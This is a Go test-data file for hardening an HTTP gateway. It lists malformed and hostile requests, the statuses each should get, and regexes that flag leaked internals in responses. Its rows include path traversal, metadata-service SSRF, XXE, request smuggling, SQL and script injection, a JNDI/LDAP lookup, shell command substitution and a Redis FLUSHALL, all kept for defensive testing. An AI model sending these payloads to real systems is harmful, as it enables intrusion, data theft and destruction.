// Malformed and hostile HTTP requests, byte by byte, with what is right for each; and the finder of what no answer may tell.
// The drill gw.contract (drills_gateway.go) sends them.
package rehearsal

import (
	"fmt"
	"regexp"
	"strings"
)

// answerer is who has to answer a request; it says too how many requests the gateway counts.
type answerer int

const (
	// byGateway is the gateway, which has read the request and counts it.
	byGateway answerer = iota
	// byRouter is the gateway's router, or HTTP's own rules: no subject is asked, nothing is counted.
	byRouter
	// byEither is for a body that breaks off on its way: who sees it first answers, and the gateway may have counted it.
	byEither
	// byNobody is for a client that goes away; the gateway may have counted it.
	byNobody
	// byBoth is for a request with a second one behind it that is the client's own: the gateway answers the first, its router the second.
	byBoth
)

// closed is the "status" of a connection that is ended without an answer.
const closed = 0

// hostileRequest is one row: right are the statuses that may come.
type hostileRequest struct {
	family, name, raw string
	by                answerer
	right             []int
}

// sent is a request with what it tries.
type sent struct{ name, raw string }

// hostileGroup are requests that are to be answered alike.
type hostileGroup struct {
	family   string
	by       answerer
	right    []int
	requests []sent
}

const (
	questRoute = "/quest/generate"
	modelRoute = "/ai/models/"
	timeRoute  = "/v1/svc/time/v1/get_time"
	// smuggledSubject is asked by no row, only by what is hidden in bodies and headers: if it is asked, that was let through.
	smuggledSubject = "svc.payment.v1.process"
	smuggled        = "POST /v1/svc/payment/v1/process HTTP/1.1\r\nHost: gateway\r\nContent-Length: 2\r\n\r\n{}"
	chunkedHeader   = "Transfer-Encoding: chunked"
	// pageScript is what would run in a page that an answer is shown as.
	pageScript = "<script>alert(1)</script>"
	// mostBody is the gateway's limit.
	mostBody = 1 << 20
)

func httpRequest(method, path string, headers ...string) string {
	lines := append([]string{method + " " + path + " HTTP/1.1", "Host: gateway"}, headers...)
	return strings.Join(lines, "\r\n") + "\r\n\r\n"
}

func httpGet(path string, headers ...string) string { return httpRequest("GET", path, headers...) }

// httpPost is well framed, whatever the body is.
func httpPost(path, body string, headers ...string) string {
	return httpRequest("POST", path, append(headers, fmt.Sprintf("Content-Length: %d", len(body)))...) + body
}

// quest is well framed and goes to a subject that exists.
func quest(body string, headers ...string) string { return httpPost(questRoute, body, headers...) }

// framed goes to a subject that exists; its headers say where its body ends.
func framed(body string, headers ...string) string {
	return httpRequest("POST", questRoute, headers...) + body
}

// chunk is one chunk and the last.
func chunk(text string) string { return fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(text), text) }

// nested is a list in so many lists.
func nested(depth int) string {
	return `{"context": {"a": ` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}}`
}

// hostileRequests are all of them. They are made when they are asked for: some are large.
func hostileRequests() (all []hostileRequest) {
	for _, groups := range [][]hostileGroup{hostilePaths, hostileBodies(), hostileHeaders(), hostileFrames(), hostileMeanings(), hostileClients} {
		for _, g := range groups {
			for _, one := range g.requests {
				all = append(all, hostileRequest{g.family, one.name, one.raw, g.by, g.right})
			}
		}
	}
	return all
}

// hostilePaths ask for what is not there, or in a way that is not served.
var hostilePaths = []hostileGroup{
	{"unknown paths", byRouter, []int{404}, []sent{
		{"the root", httpGet("/")},
		{"a folder of routes", httpGet("/v1")},
		{"a folder of subjects", httpPost("/v1/svc/quest", "{}")},
		{"a service that does not exist", httpPost("/v1/svc/nobody/v1/knows", "{}")},
		{"a file of secrets", httpGet("/.env")},
		{"a repository", httpGet("/.git/config")},
		{"the profiler", httpGet("/debug/pprof/")},
		{"the profiler's heap", httpGet("/debug/pprof/heap?debug=1")},
		{"the runtime's variables", httpGet("/debug/vars")},
		{"escaped dots out of the root", httpGet("/%2e%2e/%2e%2e/etc/passwd")},
		{"dots with escaped slashes", httpGet("/..%2f..%2fetc/passwd")},
		{"dots in overlong UTF-8", httpGet("/%c0%ae%c0%ae/etc/passwd")},
		{"dots with backslashes", httpGet(`/..\..\windows\win.ini`)},
		{"an escaped NUL", httpGet("/%00")},
		{"a subject with an escaped NUL behind it", httpPost("/v1/svc/quest/v1/generate%00", "{}")},
		{"a subject with an escaped line end behind it", httpPost("/v1/svc/quest/v1/generate%0d%0aPUB%20x%200", "{}")},
		{"escaped slashes", httpPost("/v1%2fsvc%2fquest%2fv1%2fgenerate", "{}")},
		{"a subject with dots", httpPost("/v1/svc.quest.v1.generate", "{}")},
		{"a subject in capitals", httpPost("/V1/SVC/QUEST/V1/GENERATE", "{}")},
		{"a subject with a slash behind it", httpPost("/v1/svc/quest/v1/generate/", "{}")},
		{"a subject with a session id", httpPost("/v1/svc/quest/v1/generate;jsessionid=1", "{}")},
		{"a model without a name", httpPost(modelRoute, "{}")},
		{"another server's address as target", httpGet("http://169.254.169.254/latest/meta-data/")},
	}},
	{"unknown paths", byRouter, []int{404, 414, 431}, []sent{ // AWS takes 16 KB of request line, Go 1 MB
		{"a path of 32 KB", httpGet("/" + strings.Repeat("a", 32<<10))},
		{"a query of 900 KB", httpGet("/?" + strings.Repeat("a", 900<<10))},
		{"a path of 2 MB", httpGet("/" + strings.Repeat("a", 2<<20))},
	}},
	{"unknown paths", byRouter, []int{301, 307, 308, 404}, []sent{ // Go sends a path that is not clean to the clean one, on the same host
		{"doubled slashes", httpPost("//v1//svc//quest//v1//generate", "{}")},
		{"another host as path", httpGet("//example.com/%2e%2e")},
		{"another host behind dots", httpGet("//example.com/..")},
		{"dots in the middle", httpPost("/v1/../v1/svc/quest/v1/generate", "{}")},
		{"dots out of the root", httpGet("/../../etc/passwd")},
		{"a model without a name is selected", httpPost("/ai/models//select", "{}")},
	}},
	{"unknown paths", byRouter, []int{400}, []sent{
		{"an escape that is none", httpPost("/v1/svc/quest/v1/generate%zz", "{}")},
		{"an escape that is cut off", httpGet("/%2")},
		{"a NUL", httpGet("/\x00")},
		{"a space", httpGet("/a b")},
		{"a target without a slash", httpGet("v1/svc")},
		{"no target", "GET HTTP/1.1\r\nHost: gateway\r\n\r\n"},
	}},
	{"metrics", byRouter, []int{404}, []sent{
		{"metrics", httpGet("/metrics")},
		{"metrics from this computer", httpGet("/metrics", "X-Forwarded-For: 127.0.0.1")},
		{"metrics from nowhere", httpGet("/metrics", "X-Forwarded-For:")},
		{"metrics from two places", httpGet("/metrics", "X-Forwarded-For:", "X-Forwarded-For: 127.0.0.1")},
		{"metrics, the load balancer's header as one of the connection", httpGet("/metrics", "Connection: close, X-Forwarded-For")},
		{"metrics, the header's name with an underscore", httpGet("/metrics", "X_Forwarded_For:", "X-Forwarded_For:")},
		{"metrics, the header's name in other letters", httpGet("/metrics", "x-fORWARDED-fOR:")},
		{"metrics, RFC 7239's header", httpGet("/metrics", "Forwarded: for=127.0.0.1")},
		{"metrics with a letter escaped", httpGet("/%6detrics")},
		{"metrics as an absolute target", httpGet("http://localhost/metrics")},
		{"metrics in HTTP/1.0 without a host", "GET /metrics HTTP/1.0\r\n\r\n"},
		{"metrics, the head", httpRequest("HEAD", "/metrics")},
		{"metrics with a slash behind them", httpGet("/metrics/")},
	}},
	{"metrics", byRouter, []int{400}, []sent{{"metrics, a space before the header's colon", httpGet("/metrics", "X-Forwarded-For : 127.0.0.1")}}},
	{"wrong methods", byRouter, []int{405}, []sent{
		{"GET of a route", httpGet(questRoute)},
		{"GET of a subject, with a body", httpRequest("GET", timeRoute, "Content-Length: 2") + "{}"},
		{"HEAD of a route", httpRequest("HEAD", questRoute)},
		{"PUT of a route", httpRequest("PUT", questRoute, "Content-Length: 2") + "{}"},
		{"DELETE of a subject", httpRequest("DELETE", timeRoute)},
		{"PATCH of a model", httpRequest("PATCH", modelRoute+"m-1")},
		{"OPTIONS of a route", httpRequest("OPTIONS", questRoute)},
		{"TRACE of a route", httpRequest("TRACE", questRoute, "Cookie: a=b")},
		{"a method in small letters", httpRequest("post", questRoute)},
		{"a method that nobody knows", httpRequest("PURGE", questRoute)},
		{"POST of the metrics", httpPost("/metrics", "")},
		{"POST of the health page", httpPost("/health", "")},
	}},
	{"wrong methods", byRouter, []int{400, 404, 405}, []sent{ // it never becomes a tunnel
		{"CONNECT to the metadata service", "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n"},
	}},
	{"wrong methods", byRouter, []int{400}, []sent{
		{"a method with a character that no method has", httpRequest("P@ST", questRoute)},
		{"no method", " " + questRoute + " HTTP/1.1\r\nHost: gateway\r\n\r\n"},
	}},
	{"subjects of NATS", byRouter, []int{404}, []sent{
		{"every token", httpPost("/v1/*", "{}")},
		{"every subject", httpPost("/v1/>", "{}")},
		{"every subject, escaped", httpPost("/v1/%3e", "{}")},
		{"every subject of services", httpPost("/v1/svc/>", "{}")},
		{"any service", httpPost("/v1/svc/*/v1/generate", "{}")},
		{"any action", httpPost("/v1/svc/quest/v1/*", "{}")},
		{"any action, escaped", httpPost("/v1/svc/quest/v1/%2a", "{}")},
		{"everything below an action", httpPost("/v1/svc/quest/v1/generate/>", "{}")},
		{"everything below an action, with a dot", httpPost("/v1/svc/quest/v1/generate.>", "{}")},
		{"an event", httpPost("/v1/evt/quest/v1/generated", "{}")},
		{"somebody's inbox", httpPost("/v1/_INBOX_quest/abc", "{}")},
		{"a stream's purge", httpPost("/v1/$JS/API/STREAM/PURGE/GAME_EVENTS", "{}")},
		{"the servers' page", httpPost("/v1/$SYS/REQ/SERVER/PING", "{}")},
	}},
}

// hostileBodies are no JSON, not JSON of the schema, or too much of it.
func hostileBodies() []hostileGroup {
	words := strings.Repeat("a", mostBody)
	return []hostileGroup{
		{"no JSON", byGateway, []int{400}, []sent{
			{"an object cut off", quest("{")},
			{"a string cut off", quest(`{"playerId": "p`)},
			{"an escape cut off", quest(`{"playerId": "\u12`)},
			{"words", quest("hello")},
			{"a form", quest("playerId=p-1&seed=7", "Content-Type: application/x-www-form-urlencoded")},
			{"XML with an entity of the file system", quest(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, "Content-Type: text/xml")},
			{"gzip", quest("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff", "Content-Encoding: gzip")},
			{"single quotes", quest(`{'playerId': 'p'}`)},
			{"a comment", quest(`{/* */}`)},
			{"a comma at the end", quest(`{"playerId": "p",}`)},
			{"two values", quest(`{} {}`)},
			{"a byte order mark", quest("\xef\xbb\xbf{}")},
			{"a NUL", quest("\x00")},
			{"a NUL in a string", quest("{\"playerId\": \"a\x00b\"}")},
			{"a line end in a string", quest("{\"playerId\": \"a\r\nb\"}")},
			{"bytes that are no UTF-8", quest("\xff\xfe")},
			{"a string that is no UTF-8", quest("{\"playerId\": \"\xff\"}")},
			{"overlong UTF-8", quest("{\"playerId\": \"\xc0\xaf\"}")},
			{"half of a surrogate pair", quest(`{"playerId": "\ud800"}`)},
			{"a surrogate pair the wrong way round", quest(`{"playerId": "\udc00\ud800"}`)},
			{"20,000 lists", quest(nested(20000))},
			{"20,000 lists cut off", quest(strings.Repeat("[", 20000))},
			{"20,000 objects cut off", quest(strings.Repeat(`{"context":`, 20000))},
			{"lists that the gateway reads and the service does not", quest(nested(9000))},
		}},
		{"JSON of another schema", byGateway, []int{400}, []sent{
			{"a list", quest("[]")},
			{"a string", quest(`"{}"`)},
			{"a number", quest("1")},
			{"null", quest("null")},
			{"a field that nobody knows", quest(`{"nobody": 1}`)},
			{"a field that every object has in JavaScript", quest(`{"__proto__": {"admin": true}}`)},
			{"a field twice", quest(`{"playerId": "a", "playerId": "b"}`)},
			{"a field under both of its names", quest(`{"playerId": "a", "player_id": "b"}`)},
			{"a key of a map twice", quest(`{"context": {"a": 1, "a": 2}}`)},
			{"a number for a string", quest(`{"playerId": 7}`)},
			{"an object for a string", quest(`{"playerId": {"$ne": ""}}`)},
			{"a list for a string", quest(`{"playerId": ["a"]}`)},
			{"a string for an object", quest(`{"context": "a"}`)},
			{"words for a number", quest(`{"seed": "x"}`)},
			{"a negative number for one that is not", quest(`{"seed": -1}`)},
			{"a fraction for a whole number", quest(`{"seed": 1.5}`)},
			{"one more than 64 bits", quest(`{"seed": 18446744073709551616}`)},
			{"a number of 10,000 digits", quest(`{"seed": ` + strings.Repeat("9", 10000) + `}`)},
			{"a number beyond a float", quest(`{"context": {"a": 1e400}}`)},
			{"an exponent of ten digits", quest(`{"seed": 1e9999999999}`)},
			{"NaN", quest(`{"context": {"a": NaN}}`)},
			{"an infinite number", quest(`{"seed": Infinity}`)},
			{"a hexadecimal number", quest(`{"seed": 0x10}`)},
			{"a number with a zero before it", quest(`{"seed": 007}`)},
			{"a list for metadata", quest(`{"meta": []}`)},
			{"a label that is none", quest(`{"meta": {"labels": {"a": null}}}`)},
			{"a time that no calendar has", quest(`{"meta": {"timestamp": "2026-02-30T25:61:61Z"}}`)},
			{"a time before all times", quest(`{"meta": {"timestamp": "-0001-01-01T00:00:00Z"}}`)},
			{"two of what there is one of", httpPost("/state/get", `{"playerId": "a", "entityId": "b"}`)},
			{"a word that an enumeration lacks", httpPost("/state/update", `{"op": "DROP"}`)},
			{"bytes that are no base64", httpPost("/v1/svc/events/v1/publish", `{"payload": "***"}`)},
		}},
		{"unusual JSON", byGateway, []int{200}, []sent{
			{"no body", quest("")},
			{"nothing but spaces", quest(" \t\r\n")},
			{"1,000 lists", quest(nested(1000))},
			{"an escaped NUL", quest(`{"playerId": "a\u0000b"}`)},
			{"a number with an exponent", quest(`{"seed": 1e3}`)},
			{"all is null", quest(`{"playerId": null, "seed": null, "context": null, "meta": null}`)},
			{"a number that an enumeration lacks", httpPost("/state/update", `{"op": 99}`)},
		}},
		{"too large", byGateway, []int{413}, []sent{
			{"one byte more", quest(`{"playerId": "` + words[:mostBody-15] + `"}`)},
			{"three times as much", quest(words + words + words)},
			{"spaces", quest(strings.Repeat(" ", mostBody+1))},
			{"in one chunk", framed(chunk(words+"a"), chunkedHeader)},
			{"in many chunks", framed(strings.Repeat("400\r\n"+words[:1024]+"\r\n", 1100)+"0\r\n\r\n", chunkedHeader)},
			// A number of JSON takes two bytes with its comma, in protobuf eleven: more than NATS takes.
			{"small as JSON, large for NATS", quest(`{"context": {"a": [` + strings.Repeat("0,", 200000) + `0]}}`)},
		}},
	}
}

// hostileHeaders name, size and repeat headers as they should not be, and hosts and versions of HTTP.
func hostileHeaders() []hostileGroup {
	long := strings.Repeat("k", 300)
	return []hostileGroup{
		{"headers", byGateway, []int{400}, []sent{
			{"a long request id", quest("{}", "X-Request-Id: "+long)},
			{"a request id that is no UTF-8", quest("{}", "X-Request-Id: \xff\xfe")},
			{"a request id with control characters of Unicode", quest("{}", "X-Request-Id: a\xc2\x85b")},
		}},
		{"headers", byRouter, []int{400}, []sent{
			{"a space before the colon", quest("{}", "X-Request-Id : r-1")},
			{"a name with a space", quest("{}", "X Request Id: r-1")},
			{"no name", quest("{}", ": r-1")},
			{"no colon", quest("{}", "X-Request-Id")},
			{"a name that is no ASCII", quest("{}", "X-R\xc3\xa9quest: r-1")},
			{"a NUL in a value", quest("{}", "X-Request-Id: a\x00b")},
			{"a bell in a value", quest("{}", "X-Request-Id: a\x07b")},
			{"a carriage return in a value", quest("{}", "X-Request-Id: a\rX-Other: b")},
			{"a header that begins with a space", "POST " + questRoute + " HTTP/1.1\r\n Host: gateway\r\nContent-Length: 2\r\n\r\n{}"},
		}},
		{"headers", byRouter, []int{400, 431}, []sent{{"2 MB of one header", quest("{}", "X-Large: "+strings.Repeat("a", 2<<20))},
			{"2 MB of headers", quest("{}", strings.TrimSuffix(strings.Repeat("X-Many: aaaaaaaaaaaaaaaa\r\n", 80000), "\r\n"))}}},
		{"headers", byRouter, []int{417}, []sent{{"an expectation that nobody has", quest("{}", "Expect: 200-maybe")}}},
		{"headers", byGateway, []int{200}, []sent{
			{"a request id twice", quest("{}", "X-Request-Id: a", "X-Request-Id: "+long)},
			{"an escaped line end, which is text", quest("{}", "X-Request-Id: a%0d%0aSet-Cookie: b")},
			{"a name that the load balancer drops", quest("{}", "X_Request_Id: "+long)},
			{"a line that is folded", quest("{}", "X-Request-Id: a\r\n b")}, // RFC 9112, 5.2: a space for the fold is right
			{"another method", quest("{}", "X-HTTP-Method-Override: DELETE")},
			{"another path", quest("{}", "X-Original-URL: /metrics", "X-Rewrite-URL: /metrics")},
			{"another host", quest("{}", "X-Forwarded-Host: example.com", "X-Forwarded-Proto: https")},
			{"an expectation that is met", quest("{}", "Expect: 100-continue")},
			{"another protocol", quest("{}", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")},
			{"another version of HTTP", quest("{}", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA")},
			{"a trace that is none", quest("{}", "Traceparent: 00-zz-zz-zz", "Tracestate: =,=")},
			// JSON is read whatever it is called: the callers of before named no type.
			{"JSON that says it is a form", quest("{}", "Content-Type: application/x-www-form-urlencoded")},
			{"JSON that says it is a picture", quest("{}", "Content-Type: image/png")},
			{"a type that is none", quest("{}", "Content-Type: ;;;")},
			{"an answer in XML", quest("{}", "Accept: text/xml")},
		}},
		{"hosts and versions", byRouter, []int{400}, []sent{
			{"no host", "POST " + questRoute + " HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}"},
			{"two hosts", quest("{}", "Host: gateway")},
			{"two different hosts", quest("{}", "Host: example.com")},
			{"a host that is none", "GET / HTTP/1.1\r\nHost: a b\r\n\r\n"},
			{"a host with a line end", "GET / HTTP/1.1\r\nHost: a\x0bb\r\n\r\n"},
			{"HTTP/0.9", "GET /\r\n\r\n"},
			{"a version in small letters", "GET / http/1.1\r\nHost: gateway\r\n\r\n"},
			{"a version without a dot", "GET / HTTP/11\r\nHost: gateway\r\n\r\n"},
			{"a version and more", "GET / HTTP/1.1 x\r\nHost: gateway\r\n\r\n"},
			{"another protocol's greeting", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n"},
			{"a command of NATS", "CONNECT {}\r\nPUB svc.quest.v1.generate 2\r\n{}\r\n\r\n"},
			{"a command of Redis", "*1\r\n$8\r\nFLUSHALL\r\n\r\n"},
			{"empty lines before a request that is none", "\r\n\r\n\r\n"},
		}},
		{"hosts and versions", byRouter, []int{400, 404, 405, 505}, []sent{ // AWS speaks HTTP/2 over TLS only; Go hands the greeting to the router
			{"HTTP/2's greeting", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		}},
		{"hosts and versions", byRouter, []int{505}, []sent{{"HTTP/3", "GET / HTTP/3.0\r\nHost: gateway\r\n\r\n"}, {"HTTP/0.0", "GET / HTTP/0.0\r\nHost: gateway\r\n\r\n"}}},
		{"hosts and versions", byGateway, []int{200}, []sent{
			{"a host that is somebody else", "POST " + questRoute + " HTTP/1.1\r\nHost: example.com\r\nContent-Length: 2\r\n\r\n{}"},
			{"HTTP/1.0 without a host", "POST " + questRoute + " HTTP/1.0\r\nContent-Length: 2\r\n\r\n{}"},
			{"HTTP/1.2", "POST " + questRoute + " HTTP/1.2\r\nHost: gateway\r\nContent-Length: 2\r\n\r\n{}"}, // RFC 9110, 2.5: as the highest minor version that it knows
		}},
	}
}

// hostileFrames are unclear about where they end, or hide another request.
func hostileFrames() []hostileGroup {
	hidden := fmt.Sprintf("Content-Length: %d", len(smuggled))
	return []hostileGroup{
		{"framing", byRouter, []int{400}, []sent{
			{"two lengths", framed("{}"+smuggled, "Content-Length: 2", hidden)},
			{"two lengths in one header", framed("{}"+smuggled, "Content-Length: 2, 131")},
			{"a negative length", framed(smuggled, "Content-Length: -1")},
			{"a length with a plus", framed("{}", "Content-Length: +2")},
			{"a hexadecimal length", framed("{}", "Content-Length: 0x2")},
			{"a length beyond 64 bits", framed("{}", "Content-Length: 99999999999999999999")},
			{"a length of no digits", framed(smuggled, "Content-Length:")},
			{"a length with a space before its colon", framed(smuggled, "Content-Length : 0")},
			{"chunks with a space before the colon", framed(chunk("{}"), "Transfer-Encoding : chunked")},
			{"a folded header before the host", "POST " + questRoute + " HTTP/1.1\r\n\tContent-Length: 2\r\nHost: gateway\r\n\r\n{}"},
		}},
		{"framing", byRouter, []int{400, 501}, []sent{ // RFC 9112, 6.1: an encoding that is not known is not implemented
			{"identity", framed("{}", "Transfer-Encoding: identity", "Content-Length: 2")},
			{"chunked and identity", framed(chunk("{}"), "Transfer-Encoding: chunked, identity")},
			{"identity and chunked", framed(chunk("{}"), "Transfer-Encoding: identity, chunked")},
			{"chunked twice", framed(chunk("{}"), chunkedHeader, chunkedHeader)},
			{"chunked beside another encoding", framed(chunk("{}"), chunkedHeader, "Transfer-Encoding: x")},
			{"almost chunked", framed(chunk("{}"), "Transfer-Encoding: xchunked")},
			{"chunked in quotes", framed(chunk("{}"), `Transfer-Encoding: "chunked"`)},
			{"chunked behind a vertical tab", framed(chunk("{}"), "Transfer-Encoding: \x0bchunked")},
			{"gzip and chunked", framed(chunk("{}"), "Transfer-Encoding: gzip, chunked")},
			{"an empty encoding", framed(chunk("{}"), "Transfer-Encoding:", "Content-Length: 2")},
			{"a length that is none beside chunks", framed(chunk("{}"), "Content-Length: x", chunkedHeader)},
		}},
		{"framing", byGateway, []int{200}, []sent{
			{"one length twice", framed("{}", "Content-Length: 2", "Content-Length: 2")},
			{"chunks", framed(chunk("{}"), chunkedHeader)},
			{"chunks in capitals", framed(chunk("{}"), "TRANSFER-ENCODING: CHUNKED")},
			{"a chunk's extension", framed("2;a=\"b\"\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a chunk's size with zeros before it", framed("0002\r\n{}\r\n000\r\n\r\n", chunkedHeader)},
			{"a trailer that would be a header", framed("2\r\n{}\r\n0\r\nX-Request-Id: a\r\nHost: b\r\nTransfer-Encoding: chunked\r\n\r\n", chunkedHeader)},
			// RFC 9112, 6.3: the encoding overrides the length, which goes no further.
			{"chunks and a length", framed(chunk("{}"), "Content-Length: 12", chunkedHeader)},
			// RFC 9112, 6.1: framing that HTTP/1.0 does not have; it is taken as no body, and the connection ends.
			{"chunks in HTTP/1.0", "POST " + questRoute + " HTTP/1.0\r\nHost: gateway\r\n" + chunkedHeader + "\r\n\r\n" + chunk("{}") + smuggled},
		}},
		{"framing", byGateway, []int{400}, []sent{
			{"a request in a body", framed(smuggled, hidden)},
			{"a request in a chunk, with a length that ends before it", framed(chunk(smuggled), "Content-Length: 4", chunkedHeader)},
			{"a request in a body, with an encoding that the load balancer drops", framed(smuggled, hidden, "Transfer_Encoding: chunked")},
		}},
		// Who sends both a length and chunks is read as sending chunks: what is behind them is the client's next request, to everybody
		// on the way. AWS's defensive mode would end the connection.
		{"framing", byBoth, []int{200}, []sent{
			{"a request behind the chunks, within the length", framed("0\r\n\r\n"+httpGet("/next"), "Content-Length: 60", chunkedHeader)},
		}},
		{"framing", byRouter, []int{404, 405}, []sent{
			{"a request in the body of a GET", httpRequest("GET", "/nobody", hidden, "Connection: close") + smuggled},
		}},
		{"framing", byEither, []int{400}, []sent{
			{"a chunk's size in letters", framed("zz\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a negative chunk", framed("-2\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a chunk's size with 0x", framed("0x2\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a chunk of no size", framed("\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a chunk beyond 64 bits", framed("fffffffffffffffff\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"a chunk that is longer than it says", framed("1\r\n{}\r\n0\r\n\r\n"+smuggled, chunkedHeader)},
			{"a chunk's extension of line feeds", framed("2;\n"+smuggled+"\r\n{}\r\n0\r\n\r\n", chunkedHeader)},
			{"more extension than content", framed(strings.Repeat("1;"+strings.Repeat("a", 3000)+"\r\n \r\n", 30)+"0\r\n\r\n", chunkedHeader)},
		}},
	}
}

// hostileMeanings are well formed and mean harm to who stores, shows or repeats them.
func hostileMeanings() []hostileGroup {
	command := func(key string) string { return `{"meta": {"idempotencyKey": "` + key + `"}}` }
	return []hostileGroup{
		{"texts", byGateway, []int{200}, []sent{
			{"SQL", quest(`{"playerId": "'; DROP TABLE players; --", "difficulty": "1 OR 1=1"}`)},
			{"a script", quest(`{"playerId": "` + pageScript + `", "difficulty": "` + pageScript + `"}`)},
			{"a script as a model", httpPost(modelRoute+"%3Cscript%3Ealert(1)%3C%2Fscript%3E", "")},
			{"a template", quest(`{"difficulty": "{{.}} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('return this')()}}"}`)},
			{"a look-up", quest(`{"difficulty": "${jndi:ldap://example.com/a}"}`)},
			{"a shell's command", quest(`{"difficulty": "$(id) ` + "`id`" + ` ; id | id & id"}`)},
			{"a path", quest(`{"playerId": "../../../../etc/passwd"}`)},
			{"a format", quest(`{"difficulty": "%s%s%n%x%!d(string)"}`)},
			{"a line of a log", quest(`{"difficulty": "a\n{\"level\":\"ERROR\",\"msg\":\"forged\"}"}`)},
			{"text that runs backwards", quest(`{"difficulty": "\u202egnp.exe\u200b\ufeff"}`)},
			{"a terminal's escape", quest(`{"difficulty": "\u001b[2J\u001b]0;owned\u0007"}`)},
			{"every subject, as a model", httpPost(modelRoute+"%3E", "")},
			{"any token, as a model", httpPost(modelRoute+"*/select", "")},
			{"dots, as a model", httpPost(modelRoute+"..%2f..%2fadmin", "")},
			{"a query", httpPost(questRoute+"?playerId=x&debug=true&%zz", "{}")},
		}},
		{"texts", byGateway, []int{400}, []sent{
			{"a script as a field", quest(`{"` + pageScript + `": 1}`)},
			{"a model that is no UTF-8", httpPost(modelRoute+"%ff%fe", "")},
		}},
		{"keys of commands", byGateway, []int{400}, []sent{
			{"a long key", quest("{}", "Idempotency-Key: "+strings.Repeat("k", 257))},
			{"a key of 60 KB", quest("{}", "Idempotency-Key: "+strings.Repeat("k", 60<<10))},
			{"a key that is no UTF-8", quest("{}", "Idempotency-Key: \xff")},
			{"a long key in the body", quest(command(strings.Repeat("k", 257)))},
			{"a key of 900 KB in the body", quest(command(strings.Repeat("k", 900<<10)))},
			{"a line end in the key", quest(command(`a\r\nNats-Msg-Id: b`))},
			{"a NUL in the key", quest(command(`a\u0000b`))},
			{"an escape in the key", quest(command(`\u001b[2J`))},
			{"a line end in the request id", quest(`{"meta": {"requestId": "a\r\nSet-Cookie: b"}}`)},
			{"a request id of 900 KB in the body", quest(`{"meta": {"requestId": "` + strings.Repeat("r", 900<<10) + `"}}`)},
			{"a trace of 900 KB in the body", quest(`{"meta": {"traceId": "` + strings.Repeat("t", 900<<10) + `"}}`)},
		}},
		{"keys of commands", byGateway, []int{200}, []sent{
			{"a key of the most bytes", quest("{}", "Idempotency-Key: "+strings.Repeat("k", 256))},
			{"a key with a subject's wildcards", quest("{}", "Idempotency-Key: *.> ")},
			{"a key with a slot of Redis", quest("{}", "Idempotency-Key: {a}:b*?[c]")},
			{"a key with escaped line ends, which are text", quest("{}", "Idempotency-Key: a%0d%0aDEL%20b")},
			{"a key with a script of Redis", quest("{}", `Idempotency-Key: "return redis.call('FLUSHALL')"`)},
			{"an empty key", quest("{}", "Idempotency-Key:")},
		}},
		{"streams", byGateway, []int{400}, []sent{
			{"a stream of what has none", quest(`{"params": {"stream": true}}`)},
			{"a stream that is a word", httpPost("/ai/llm/infer", `{"params": {"stream": "yes"}}`)},
			{"a stream that is an object", httpPost("/ai/llm/infer", `{"params": {"stream": {"value": true}}}`)},
			{"a stream outside of the parameters", httpPost("/ai/llm/infer", `{"stream": true}`)},
		}},
		{"streams", byGateway, []int{200}, []sent{
			{"a stream of nothing", httpPost("/ai/llm/infer", `{"params": {"stream": true}}`)},
			{"a stream that is a command", httpPost("/ai/llm/infer", `{"params": {"stream": true}}`, "Idempotency-Key: stream")},
			{"a stream that is accepted as JSON only", httpPost("/ai/llm/infer", `{"prompt": "event: error\n\ndata: x", "params": {"stream": true}}`, "Accept: application/json")},
			{"a stream with numbers that are none", httpPost("/ai/llm/infer", `{"params": {"stream": true, "temperature": "NaN", "topP": "-Infinity"}}`)},
			{"no stream", httpPost("/ai/llm/infer", `{"params": {"stream": null}}`)},
		}},
	}
}

// hostileClients go away before they have an answer, or before they have asked.
var hostileClients = []hostileGroup{
	{"clients that go", byNobody, nil, []sent{
		{"before a request", ""},
		{"in the first line", "POST /qu"},
		{"in the headers", "POST " + questRoute + " HTTP/1.1\r\nHost: gate"},
		{"before the body", framed("", "Content-Length: 100")},
		{"in the body", framed(`{"playerId": "`, "Content-Length: 100")},
		{"in a large body", framed(strings.Repeat("a", 500<<10), "Content-Length: 900000")},
		{"in a chunk", framed("64\r\n{", chunkedHeader)},
		{"in a chunk's size, with carriage returns alone", framed("2\r{}\r0\r\r", chunkedHeader)},
		{"between two chunks", framed("2\r\n{}\r\n", chunkedHeader)},
		{"before the answer", quest("{}")},
		{"before the answer to a command", quest("{}", "Idempotency-Key: gone")},
		{"before a stream", httpPost("/ai/llm/infer", `{"prompt": "gone", "params": {"stream": true}}`)},
	}},
}

// told are what no answer may hold, beside the secrets themselves, by what it would tell.
var told = map[string]*regexp.Regexp{
	"the stack of a goroutine":   regexp.MustCompile(`goroutine`),
	"a file of the program":      regexp.MustCompile(`\.go:`),
	"an error of NATS":           regexp.MustCompile(`nats:`),
	"the address of a server":    regexp.MustCompile(`tls://`),
	"an address of the VPC":      regexp.MustCompile(`\b127\.20\.`),
	"the seed of an identity":    seedPattern,
	"a type of the program":      regexp.MustCompile(`protoreflect|protojson|dynamicpb|\*errors\.|\*fmt\.`),
	"an error of the runtime":    regexp.MustCompile(`runtime error|panic`),
	"an error of the connection": regexp.MustCompile(`dial tcp|connection refused|i/o timeout|broken pipe`),
}

// seedPattern is an nkey seed of a user.
var seedPattern = regexp.MustCompile(`SU[A-Z2-7]{56}`)

// leaksIn says what a text tells that it must not, by the name of what is told; never the text itself.
